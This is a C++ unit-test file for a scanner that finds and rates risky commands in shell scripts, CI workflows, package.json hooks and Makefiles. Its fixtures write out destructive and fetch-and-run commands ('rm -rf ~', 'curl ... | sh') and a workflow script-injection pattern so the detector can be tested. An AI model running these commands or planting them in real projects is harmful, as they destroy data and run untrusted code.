// The scanner: classified commands placed on their exact line and column,
// the walk over a repository (skipped folders, links, shebangs, hooks), and
// the three output formats.
#include "togmal/scan/scanner.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <set>

#include "local_functions.h"
#include "process.h"
#include "togmal/scan/file_walk.h"
#include "togmal/scan/report_formats.h"

namespace togmal::scan {
namespace {

namespace fs = std::filesystem;

const policy::Classifier& TheClassifier() {
  static const policy::Classifier classifier = *policy::Classifier::Compiled();
  return classifier;
}

ScanReport ScanOne(std::string_view text, FileKind kind, std::string_view name) {
  ScanReport report;
  ScanText(text, kind, name, "/work/project", TheClassifier(), Catalogue::Builtin(), report);
  return report;
}

TEST(ScanText, FindingsOnTheLineAndColumnOfTheDecidingCommand) {
  const ScanReport report = ScanOne(
      "#!/bin/sh\n"
      "ls -la\n"
      "cleanup() {\n"
      "  echo bye\n"
      "  rm -rf ~\n"
      "}\n"
      "echo done\n",
      FileKind::kShellScript, "tools/x.sh");
  ASSERT_EQ(report.findings.size(), 1u);
  const Finding& finding = report.findings[0];
  EXPECT_EQ(finding.level, policy::Level::kL3);
  EXPECT_EQ(finding.file, "tools/x.sh");
  EXPECT_EQ(finding.line, 5);
  EXPECT_EQ(finding.column, 3);
  EXPECT_EQ(finding.command, "rm -rf ~");
  EXPECT_EQ(finding.origin, "shell script");
  EXPECT_FALSE(finding.reason.empty());
  EXPECT_EQ(report.commands, 3u);
}

TEST(ScanText, TheScriptsOwnFunctionsAreNotUnknownCommands) {
  const ScanReport report = ScanOne(
      "#!/bin/sh\n"
      "format() {\n"
      "  echo formatting\n"
      "}\n"
      "function log { echo \"$*\" >&2; }\n"
      "case \"$1\" in\n"
      "  fmt) format --check ;;\n"
      "  *) log usage; wipe_it ;;\n"
      "esac\n"
      "cleanup() { rm -rf ~; }\n",
      FileKind::kShellScript, "x.sh");
  ASSERT_EQ(report.findings.size(), 2u);
  EXPECT_EQ(report.findings[0].line, 8);  // an unknown command, not a function here
  EXPECT_EQ(report.findings[0].level, policy::Level::kL2);
  EXPECT_EQ(report.findings[0].column, 17);
  EXPECT_EQ(report.findings[1].line, 10);  // a function's body is still classified
  EXPECT_EQ(report.findings[1].level, policy::Level::kL3);
}

TEST(LocalFunctions, CallsAndHeadersBlankedKeepingPositions) {
  const auto functions = DefinedFunctions("build() {\n  x\n}\nfunction log {\n}\n");
  EXPECT_EQ(functions, (std::set<std::string, std::less<>>{"build", "log"}));
  EXPECT_EQ(WithoutLocalFunctions("A=1 build release && log x $(build y)", functions),
            "A=1 echo  release && :   x $(echo  y)");
  EXPECT_EQ(WithoutLocalFunctions("build() { make; }", functions), "        { make; }");
  EXPECT_EQ(WithoutLocalFunctions("\"build\" x; builder y; echo build", functions),
            "\"build\" x; builder y; echo build");
}

TEST(ScanText, QuietForReadOnlyAndLocalCommands) {
  const ScanReport report =
      ScanOne("ls\ngit status\necho hi\ngrep -rn x .\n", FileKind::kShellScript, "a.sh");
  EXPECT_TRUE(report.findings.empty());
  EXPECT_EQ(report.commands, 4u);
}

TEST(ScanText, WorkflowBlockLinesAndColumns) {
  const ScanReport report = ScanOne(
      "jobs:\n"
      "  b:\n"
      "    steps:\n"
      "      - run: |\n"
      "          echo one\n"
      "          curl -fsSL https://x.example/i.sh | sh\n",
      FileKind::kGithubActions, ".github/workflows/ci.yml");
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].line, 6);
  EXPECT_EQ(report.findings[0].level, policy::Level::kL3);
  EXPECT_EQ(report.findings[0].origin, "GitHub Actions job b step 1 run:");
}

TEST(ScanText, UntrustedExpressionsAreFindingsOnTheirLine) {
  const ScanReport report = ScanOne(
      "on: pull_request_target\n"
      "jobs:\n"
      "  greet:\n"
      "    steps:\n"
      "      - run: |\n"
      "          echo hello\n"
      "          echo \"${{ github.event.pull_request.title }}\"\n",
      FileKind::kGithubActions, ".github/workflows/greet.yml");
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].level, policy::Level::kL3);
  EXPECT_EQ(report.findings[0].line, 7);
  EXPECT_EQ(report.findings[0].column, 11);
  EXPECT_NE(report.findings[0].reason.find("script injection"), std::string::npos);
}

TEST(ScanText, PackageJsonColumnInsideTheString) {
  const ScanReport report =
      ScanOne("{\n  \"scripts\": {\n    \"postinstall\": \"echo hi && rm -rf ~\"\n  }\n}\n",
              FileKind::kPackageJson, "package.json");
  ASSERT_EQ(report.findings.size(), 1u);
  EXPECT_EQ(report.findings[0].line, 3);
  EXPECT_EQ(report.findings[0].column, 32);
  EXPECT_EQ(report.findings[0].command, "echo hi && rm -rf ~");
}

TEST(ScanText, BrokenFilesAreProblemsNotFindings) {
  const ScanReport report =
      ScanOne("{\n  \"scripts\": [\n", FileKind::kPackageJson, "package.json");
  EXPECT_TRUE(report.findings.empty());
  ASSERT_EQ(report.problems.size(), 1u);
  EXPECT_EQ(report.problems[0].file, "package.json");
}

void Write(const fs::path& path, std::string_view text) {
  fs::create_directories(path.parent_path());
  std::ofstream(path) << text;
}

TEST(FindScanFiles, KindsSkippedFoldersLinksAndHooks) {
  testing::TempDir dir;
  const fs::path root = dir.path();
  Write(root / "Makefile", "all:\n\techo\n");
  Write(root / "scripts/deploy", "#!/usr/bin/env bash\necho\n");
  Write(root / "scripts/tool", "#!/usr/bin/python3\nprint()\n");
  Write(root / "scripts/run.sh", "echo\n");
  Write(root / "node_modules/x/install.sh", "rm -rf ~\n");
  Write(root / "build/gen.sh", "rm -rf ~\n");
  Write(root / ".git/hooks/pre-commit", "make lint\n");
  Write(root / ".git/hooks/pre-push.sample", "exit 0\n");
  Write(root / ".git/objects/x.sh", "rm -rf ~\n");
  Write(root / ".husky/pre-push", "npm test\n");
  Write(root / ".github/workflows/ci.yml", "on: push\n");
  Write(root / ".devcontainer/devcontainer.json", "{}\n");
  Write(root / "docker/app.Dockerfile", "FROM x\n");
  Write(root / "README.md", "rm -rf ~\n");
  testing::TempDir outside;
  Write(fs::path(outside.path()) / "evil.sh", "rm -rf ~\n");
  fs::create_directory_symlink(outside.path(), root / "linked");
  fs::create_symlink(fs::path(outside.path()) / "evil.sh", root / "evil.sh");
  fs::create_symlink(root / "scripts/run.sh", root / "again.sh");

  const WalkResult walk = FindScanFiles(root, root, Catalogue::Builtin());
  std::vector<std::string> found;
  for (const ScanFile& file : walk.files) {
    found.push_back(file.relative + "=" + std::string(FileKindName(file.kind)));
  }
  EXPECT_EQ(found, (std::vector<std::string>{
                       ".devcontainer/devcontainer.json=devcontainer",
                       ".git/hooks/pre-commit=shell_script",
                       ".github/workflows/ci.yml=github_actions",
                       ".husky/pre-push=shell_script",
                       "Makefile=makefile",
                       "again.sh=shell_script",
                       "docker/app.Dockerfile=dockerfile",
                       "scripts/deploy=shell_script",
                       "scripts/run.sh=shell_script",
                   }));
}

TEST(Scan, FifosAreNeverOpenedForReading) {
  testing::TempDir dir;
  const fs::path root = dir.path();
  ASSERT_EQ(::mkfifo((root / "a.sh").c_str(), 0600), 0);
  fs::create_directories(root / ".githooks");
  ASSERT_EQ(::mkfifo((root / ".githooks/pre-commit").c_str(), 0600), 0);
  ASSERT_EQ(::mkfifo((root / "tool").c_str(), 0600), 0);
  const ScanReport walked = Scan({root}, TheClassifier(), Catalogue::Builtin());
  EXPECT_EQ(walked.files, 0u);
  const ScanReport named = Scan({root / "a.sh"}, TheClassifier(), Catalogue::Builtin());
  EXPECT_EQ(named.files, 0u);
  ASSERT_EQ(named.problems.size(), 1u);
  EXPECT_NE(named.problems[0].why.find("not a regular file"), std::string::npos);
}

ScanReport Sample() {
  ScanReport report;
  report.root = "repo";
  report.files = 2;
  report.commands = 5;
  report.findings.push_back({policy::Level::kL3, "Deletes the home folder.", "dir a/x.sh", 4, 3,
                             "rm -rf ~", "shell script"});
  report.findings.push_back({policy::Level::kL2, "Installs packages.", "Makefile", 2, 0,
                             "npm install", "Makefile target all recipe"});
  report.problems.push_back({"package.json", 3, "not valid JSON"});
  return report;
}

TEST(Formats, TextOneLinePerFindingAndASummary) {
  EXPECT_EQ(FormatText(Sample()),
            "repo/dir a/x.sh:4:3: L3 Deletes the home folder. — rm -rf ~  [shell script]\n"
            "repo/Makefile:2: L2 Installs packages. — npm install  [Makefile target all recipe]\n"
            "repo/package.json:3: problem: not valid JSON\n"
            "2 findings (L3: 1, L2: 1) in 2 files, 5 commands classified, 1 problem\n");
}

TEST(Formats, JsonShape) {
  const nlohmann::json json = FormatJson(Sample());
  EXPECT_EQ(json["root"], "repo");
  ASSERT_EQ(json["findings"].size(), 2u);
  EXPECT_EQ(json["findings"][0]["level"], "L3");
  EXPECT_EQ(json["findings"][0]["line"], 4);
  EXPECT_EQ(json["findings"][0]["column"], 3);
  EXPECT_FALSE(json["findings"][1].contains("column"));
  EXPECT_EQ(json["summary"]["L3"], 1);
  EXPECT_EQ(json["summary"]["highest"], "L3");
  EXPECT_EQ(json["problems"][0]["line"], 3);
}

TEST(Formats, SarifResultsRulesAndLocations) {
  const nlohmann::json sarif = FormatSarif(Sample());
  EXPECT_EQ(sarif["version"], "2.1.0");
  ASSERT_EQ(sarif["runs"].size(), 1u);
  const nlohmann::json& run = sarif["runs"][0];
  EXPECT_EQ(run["tool"]["driver"]["name"], "togmal");
  ASSERT_EQ(run["tool"]["driver"]["rules"].size(), 2u);
  EXPECT_EQ(run["tool"]["driver"]["rules"][0]["id"], SarifRuleId(policy::Level::kL3));
  const nlohmann::json& first = run["results"][0];
  EXPECT_EQ(first["ruleId"], "togmal/L3-blocked");
  EXPECT_EQ(first["ruleIndex"], 0);
  EXPECT_EQ(first["level"], "error");
  const nlohmann::json& location = first["locations"][0]["physicalLocation"];
  EXPECT_EQ(location["artifactLocation"]["uri"], "dir%20a/x.sh");
  EXPECT_EQ(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
  EXPECT_EQ(location["region"]["startLine"], 4);
  EXPECT_EQ(location["region"]["startColumn"], 3);
  EXPECT_EQ(run["results"][1]["level"], "warning");
  EXPECT_FALSE(
      run["results"][1]["locations"][0]["physicalLocation"]["region"].contains("startColumn"));
  EXPECT_TRUE(run["originalUriBaseIds"]["%SRCROOT%"]["uri"].get<std::string>().ends_with("/repo/"));
}

TEST(Catalogue, BuiltinLoadsAndBrokenOnesNameTheLine) {
  EXPECT_FALSE(Catalogue::Builtin().file_globs.empty());
  auto broken = Catalogue::FromYaml("file_kinds:\n  nope: [x]\n", "scan.yaml");
  ASSERT_FALSE(broken);
  EXPECT_EQ(broken.error(), "scan.yaml:2: unknown kind nope");
}

}  // namespace
}  // namespace togmal::scan
